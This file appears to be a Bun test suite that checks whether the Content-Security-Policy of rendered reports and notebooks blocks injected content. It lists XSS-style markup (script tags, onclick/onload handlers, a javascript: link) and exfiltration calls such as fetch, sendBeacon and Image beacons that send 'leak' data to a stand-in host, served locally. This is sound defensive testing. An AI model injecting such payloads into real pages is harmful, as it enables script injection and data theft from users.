import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { renderNotebook } from "../../src/notebook/render.ts";
import { renderReport } from "../../src/report/render.ts";
import { hardirqs } from "../fixtures/recordings.ts";
import { ordinary } from "../notebook/documents.ts";
import { type ReportBrowser, reportBrowser } from "./browser.ts";

setDefaultTimeout(120_000);
let browser: ReportBrowser;
/** Where whatever leaves a page would arrive. */
const arrived: string[] = [];
const elsewhere = Bun.serve({
  hostname: "127.0.0.1",
  port: 0,
  fetch: ({ url }) => {
    arrived.push(url);
    return new Response("here");
  },
});
const there = (text: string) => text.replaceAll("ELSEWHERE", `127.0.0.1:${elsewhere.port}`);
beforeAll(async () => {
  browser = await reportBrowser();
});
afterAll(async () => {
  await browser?.close();
  await elsewhere.stop(true);
});

/** Markup that somebody put into the page, and the directive that forbids it. What runs says so in the title. */
const put = [
  ["<script>document.title = 'ran'</script>", "script-src-elem"],
  ["<script src=other.js></script>", "script-src-elem"],
  ["<script type=module>document.title = 'ran'</script>", "script-src-elem"],
  ["<p id=handler onclick=\"document.title = 'ran'\"></p>", "script-src-attr"],
  ["<svg onload=\"document.title = 'ran'\"></svg>", "script-src-attr"],
  ["<style>h1 { display: none }</style>", "style-src-elem"],
  ["<link rel=stylesheet href=other.css>", "style-src-elem"],
  ['<p style="position: fixed">', "style-src-attr"],
  ['<img src="http://ELSEWHERE/?leak">', "img-src"],
  ['<iframe src="http://ELSEWHERE/"></iframe>', "frame-src"],
  ['<object data="http://ELSEWHERE/"></object>', "object-src"],
  ['<video src="http://ELSEWHERE/"></video>', "media-src"],
  ['<base href="http://ELSEWHERE/">', "base-uri"],
] as const;

/** What a script would do if one ran, and clicks on what was put there: what was never a handler needs no blocking. */
const acts = [
  ["fetch('http://ELSEWHERE/').catch(() => {})", "connect-src"],
  ["navigator.sendBeacon('http://ELSEWHERE/', 'leak')", "connect-src"],
  [
    "{ const r = new XMLHttpRequest(); r.open('GET', 'http://ELSEWHERE/'); r.send() }",
    "connect-src",
  ],
  ["try { new WebSocket('ws://ELSEWHERE/') } catch {}", "connect-src"],
  ["try { new EventSource('http://ELSEWHERE/') } catch {}", "connect-src"],
  ["new Image().src = 'http://ELSEWHERE/?leak'", "img-src"],
  ["try { new Worker('data:text/javascript,0') } catch {}", "worker-src"],
  ["setTimeout('document.title = `ran`')", "script-src"],
  ["document.querySelector('#handler').click()", null],
  ["document.querySelector('#link').click()", "script-src-elem"],
  ["document.querySelector('#form').requestSubmit()", "form-action"],
] as const;

const places = `<form id=form action="http://ELSEWHERE/"></form>
<a id=link href="javascript:document.title = 'ran'">x</a>`;

describe.each([
  ["report", () => renderReport(hardirqs())],
  ["notebook", () => renderNotebook(ordinary())],
] as const)("the policy of a %s", (_, render) => {
  test("blocks what somebody put into it, and what that would do", async () => {
    const html = await render();
    const markup = put.map(([text]) => text).join("\n");
    const { page } = await browser.open(
      html.replace("</main>", () => there(`</main>${places}\n${markup}`)),
      { offline: false },
      "window.seen = []; addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.push(effectiveDirective))",
    );
    const title = await page.evaluate<string>("document.title");
    const seen = () => page.evaluate<string[]>("seen.splice(0)");
    expect((await seen()).toSorted()).toEqual(put.map(([, directive]) => directive).toSorted());
    for (const [act, directive] of acts) {
      await page.evaluate(`{ ${there(act)} }; new Promise((done) => setTimeout(done, 50))`);
      expect([act, ...(await seen())]).toEqual(directive === null ? [act] : [act, directive]);
    }
    expect(await page.evaluate<string>("document.title")).toBe(title);
    expect(await page.locator("h1").isVisible()).toBeTrue();
    expect(arrived).toEqual([]);
    await page.context().close();
  });
});

test("without the policy all of that would arrive", async () => {
  const html = (await renderReport(hardirqs())).replace(/<meta http-equiv[^>]*>/, "");
  const { page } = await browser.open(html, { offline: false });
  const act = there("new Image().src = 'http://ELSEWHERE/?leak'; document.title = 'ran'");
  await page.evaluate(`document.body.append(Object.assign(document.createElement("script"), {
    textContent: ${JSON.stringify(act)} }))`);
  expect(await page.evaluate<string>("document.title")).toBe("ran");
  for (let tries = 0; arrived.length === 0 && tries < 200; tries++) await Bun.sleep(20);
  expect(arrived.join()).toContain("?leak");
  await page.context().close();
});
